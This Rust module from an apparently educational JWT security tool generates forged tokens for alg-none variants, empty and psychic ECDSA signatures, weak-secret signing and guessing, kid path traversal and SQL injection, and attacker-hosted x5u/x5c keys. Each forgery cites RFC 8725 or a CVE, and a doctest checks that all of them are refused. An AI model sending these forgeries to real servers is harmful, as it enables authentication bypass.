//! The JWT attack catalogue (after jwt_tool's): tokens forged to carry any claims past a server
//! that checks carelessly, each with the RFC 8725 section or CVE that says why a server refuses
//! it. `authpath probe --attacks` sends them to a live server; the engine refuses each at its own
//! check (its tests hold it), except a token signed with a weak secret the server really uses,
//! which passes — the lesson being that the key is the whole defence.
//!
//! ```
//! use authpath_engine::teach::attacks::forged_tokens;
//! use authpath_engine::{evaluate, Claims, Scenario};
//!
//! let claims = Claims { sub: Some("mallory".into()), role: Some("admin".into()), ..Claims::default() };
//! for forged in forged_tokens(&claims) {
//!     let raw = format!("GET /admin HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer {}\r\n\r\n", forged.token);
//!     assert_eq!(evaluate(&raw, &Scenario::default()).response.status.code(), 401, "{}", forged.id);
//! }
//! ```

use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use base64::Engine as _;
use serde::{Deserialize, Serialize};

use crate::token::{sign, signing_input, Claims};

/// Secrets that tutorials, defaults and leaked configurations use for HS256, the first a
/// guesser tries (jwt.io's example secret among them). A server whose key is one of them
/// accepts whatever a guesser signs.
pub const WEAK_SECRETS: [&str; 6] = [
    "secret",
    "your-256-bit-secret",
    "password",
    "changeme",
    "jwt_secret",
    "123456",
];

/// Where an attacker's `x5u` points: a certificate on the attacker's host.
pub const ATTACKER_X5U: &str = "https://attacker.example/cert.pem";

/// A `kid` that walks out of a key folder to a file every Unix system has, empty: a server
/// that reads the key from the path the `kid` names verifies with an empty secret.
pub const KID_TRAVERSAL: &str = "../../../../../../../dev/null";

/// A `kid` shaped as SQL injection: a server that looks the key up with it in a query, unescaped,
/// gets the key the attacker chose (`authpath-forged`).
pub const KID_INJECTION: &str = "nothing' UNION SELECT 'authpath-forged' -- ";

/// One attack of the catalogue. The weak secret is one attack whatever the secret: which one
/// a token is forged with is for [`guess_secret`] to find, or the list's first.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Attack {
    /// `alg` `none`: unsigned.
    AlgNone,
    /// `alg` `None`.
    AlgNoneCapitalised,
    /// `alg` `NONE`.
    AlgNoneUpperCase,
    /// `alg` `nOnE`.
    AlgNoneMixedCase,
    /// HS256 with an empty (null) signature.
    EmptySignature,
    /// HS256 signed with a secret from [`WEAK_SECRETS`].
    WeakSecret,
    /// ES256 with r = s = 0.
    PsychicSignature,
    /// A `kid` that walks to `/dev/null`, signed with an empty secret.
    KidTraversal,
    /// A `kid` shaped as SQL injection, signed with the key it would select.
    KidInjection,
    /// An `x5u` on the attacker's host, signed with the attacker's key.
    X5u,
    /// An embedded `x5c` carrying the attacker's key, signed with it.
    X5c,
}

impl Attack {
    /// Every attack, in the catalogue's order.
    pub const ALL: [Attack; 11] = [
        Attack::AlgNone,
        Attack::AlgNoneCapitalised,
        Attack::AlgNoneUpperCase,
        Attack::AlgNoneMixedCase,
        Attack::EmptySignature,
        Attack::WeakSecret,
        Attack::PsychicSignature,
        Attack::KidTraversal,
        Attack::KidInjection,
        Attack::X5u,
        Attack::X5c,
    ];

    /// The catalogue's id (the weak secret's without the secret): `alg-none-mixed-case`,
    /// `weak-secret`, `kid-traversal`, …
    pub fn id(self) -> &'static str {
        match self {
            Attack::AlgNone => "alg-none",
            Attack::AlgNoneCapitalised => "alg-none-capitalised",
            Attack::AlgNoneUpperCase => "alg-none-upper-case",
            Attack::AlgNoneMixedCase => "alg-none-mixed-case",
            Attack::EmptySignature => "empty-signature",
            Attack::WeakSecret => "weak-secret",
            Attack::PsychicSignature => "psychic-signature",
            Attack::KidTraversal => "kid-traversal",
            Attack::KidInjection => "kid-injection",
            Attack::X5u => "x5u",
            Attack::X5c => "x5c",
        }
    }

    /// The attack as an adjective phrase before a credential, e.g. "an alg-NONE".
    pub fn phrase(self) -> &'static str {
        match self {
            Attack::AlgNone => "an unsigned (alg none)",
            Attack::AlgNoneCapitalised => "an alg-None",
            Attack::AlgNoneUpperCase => "an alg-NONE",
            Attack::AlgNoneMixedCase => "an alg-nOnE",
            Attack::EmptySignature => "an empty-signature",
            Attack::WeakSecret => "a weak-secret-forged",
            Attack::PsychicSignature => "a psychic-signature (r = s = 0)",
            Attack::KidTraversal => "a kid-traversal",
            Attack::KidInjection => "a kid-injection",
            Attack::X5u => "an attacker-x5u",
            Attack::X5c => "an embedded-x5c",
        }
    }

    /// The attack as a choice of the request builder.
    pub fn label(self) -> &'static str {
        match self {
            Attack::AlgNone => "alg: none",
            Attack::AlgNoneCapitalised => "attack: alg None",
            Attack::AlgNoneUpperCase => "attack: alg NONE",
            Attack::AlgNoneMixedCase => "attack: alg nOnE",
            Attack::EmptySignature => "attack: empty signature",
            Attack::WeakSecret => "attack: weak secret, guessed",
            Attack::PsychicSignature => "attack: psychic signature (ES256 r = s = 0)",
            Attack::KidTraversal => "attack: kid path traversal",
            Attack::KidInjection => "attack: kid SQL injection",
            Attack::X5u => "attack: x5u on the attacker's host",
            Attack::X5c => "attack: embedded x5c",
        }
    }

    /// Why a server refuses it: the RFC 8725 section or the CVE.
    pub fn source(self) -> &'static str {
        match self {
            Attack::AlgNone
            | Attack::AlgNoneCapitalised
            | Attack::AlgNoneUpperCase
            | Attack::AlgNoneMixedCase
            | Attack::EmptySignature => "RFC 8725 §3.1",
            Attack::WeakSecret => "RFC 8725 §3.5",
            Attack::PsychicSignature => "CVE-2022-21449",
            Attack::KidTraversal | Attack::KidInjection | Attack::X5u | Attack::X5c => {
                "RFC 8725 §3.10"
            }
        }
    }

    /// Where the source is read: rfc-editor.org's section, or the CVE's record.
    pub fn source_url(self) -> &'static str {
        match self {
            Attack::AlgNone
            | Attack::AlgNoneCapitalised
            | Attack::AlgNoneUpperCase
            | Attack::AlgNoneMixedCase
            | Attack::EmptySignature => "https://www.rfc-editor.org/rfc/rfc8725#section-3.1",
            Attack::WeakSecret => "https://www.rfc-editor.org/rfc/rfc8725#section-3.5",
            Attack::PsychicSignature => "https://www.cve.org/CVERecord?id=CVE-2022-21449",
            Attack::KidTraversal | Attack::KidInjection | Attack::X5u | Attack::X5c => {
                "https://www.rfc-editor.org/rfc/rfc8725#section-3.10"
            }
        }
    }
}

/// One forged token.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Forged {
    /// Stable id, e.g. `alg-none-mixed-case`, `weak-secret-secret`.
    pub id: String,
    /// What was done, in a few words.
    pub title: String,
    /// Why a server refuses it: the RFC 8725 section or the CVE.
    pub source: &'static str,
    /// The compact JWS.
    pub token: String,
}

/// Every attack of the catalogue, carrying `claims`, in a fixed order: `alg` none written four
/// ways, an empty signature, one token per weak secret, the psychic ECDSA signature, `kid`
/// traversal and injection, and an `x5u` on the attacker's host.
pub fn forged_tokens(claims: &Claims) -> Vec<Forged> {
    let mut forged = Vec::new();
    for attack in Attack::ALL {
        if attack == Attack::WeakSecret {
            forged.extend(
                WEAK_SECRETS
                    .iter()
                    .map(|secret| forge(attack, claims, secret)),
            );
        } else {
            forged.push(forge(attack, claims, ""));
        }
    }
    forged
}

/// The weak secret that signed the HS256 `token`, if it is one of [`WEAK_SECRETS`]: what a
/// guesser finds offline from any one token the server issued (jwt_tool's crack).
pub fn guess_secret(token: &str) -> Option<&'static str> {
    let (input, signature) = token.rsplit_once('.')?;
    WEAK_SECRETS.into_iter().find(|secret| {
        URL_SAFE_NO_PAD.encode(crate::token::hmac_sha256(
            secret.as_bytes(),
            input.as_bytes(),
        )) == signature
    })
}

/// The token of one attack carrying `claims`; `secret` is the weak secret a
/// [`Attack::WeakSecret`] token is signed with (the others ignore it).
pub fn forge(attack: Attack, claims: &Claims, secret: &str) -> Forged {
    let (id, title, token) = match attack {
        Attack::AlgNone
        | Attack::AlgNoneCapitalised
        | Attack::AlgNoneUpperCase
        | Attack::AlgNoneMixedCase => {
            let alg = match attack {
                Attack::AlgNoneCapitalised => "None",
                Attack::AlgNoneUpperCase => "NONE",
                Attack::AlgNoneMixedCase => "nOnE",
                _ => "none",
            };
            (
                attack.id().to_string(),
                format!("alg {alg}: unsigned"),
                format!(
                    "{}.",
                    signing_input(&format!(r#"{{"alg":"{alg}","typ":"JWT"}}"#), claims)
                ),
            )
        }
        Attack::EmptySignature => (
            attack.id().to_string(),
            "HS256 with an empty signature".to_string(),
            format!(
                "{}.",
                signing_input(r#"{"alg":"HS256","typ":"JWT"}"#, claims)
            ),
        ),
        Attack::WeakSecret => (
            format!("weak-secret-{secret}"),
            format!("HS256 signed with the guessable secret {secret:?}"),
            sign(r#"{"alg":"HS256","typ":"JWT"}"#, claims, secret),
        ),
        // r = 0 and s = 0: Java 15–18's ECDSA accepted it for any message and key (CVE-2022-21449).
        Attack::PsychicSignature => (
            attack.id().to_string(),
            "ES256 with r = s = 0 (psychic signature)".to_string(),
            format!(
                "{}.{}",
                signing_input(r#"{"alg":"ES256","typ":"JWT"}"#, claims),
                URL_SAFE_NO_PAD.encode([0u8; 64])
            ),
        ),
        Attack::KidTraversal => (
            attack.id().to_string(),
            format!("kid {KID_TRAVERSAL}, signed with an empty secret"),
            sign(
                &format!(r#"{{"alg":"HS256","typ":"JWT","kid":"{KID_TRAVERSAL}"}}"#),
                claims,
                "",
            ),
        ),
        Attack::KidInjection => (
            attack.id().to_string(),
            "kid shaped as SQL injection, signed with the key it selects".to_string(),
            sign(
                &format!(r#"{{"alg":"HS256","typ":"JWT","kid":"{KID_INJECTION}"}}"#),
                claims,
                "authpath-forged",
            ),
        ),
        Attack::X5u => {
            let input = signing_input(
                &format!(r#"{{"alg":"EdDSA","typ":"JWT","x5u":"{ATTACKER_X5U}"}}"#),
                claims,
            );
            let signature = crate::keys::attacker_signature(input.as_bytes());
            (
                attack.id().to_string(),
                "x5u on the attacker's host, signed with the attacker's key".to_string(),
                format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature)),
            )
        }
        // An embedded certificate would need a certificate of the attacker's key; the
        // attacker's public key alone, base64 as x5c entries are, stands for it: a server must
        // trust neither.
        Attack::X5c => {
            let input = signing_input(
                &format!(
                    r#"{{"alg":"EdDSA","typ":"JWT","x5c":["{}"]}}"#,
                    STANDARD.encode(crate::keys::ATTACKER_PUBLIC)
                ),
                claims,
            );
            let signature = crate::keys::attacker_signature(input.as_bytes());
            (
                attack.id().to_string(),
                "x5c carrying the attacker's key, signed with it".to_string(),
                format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature)),
            )
        }
    };
    Forged {
        id,
        title,
        source: attack.source(),
        token,
    }
}
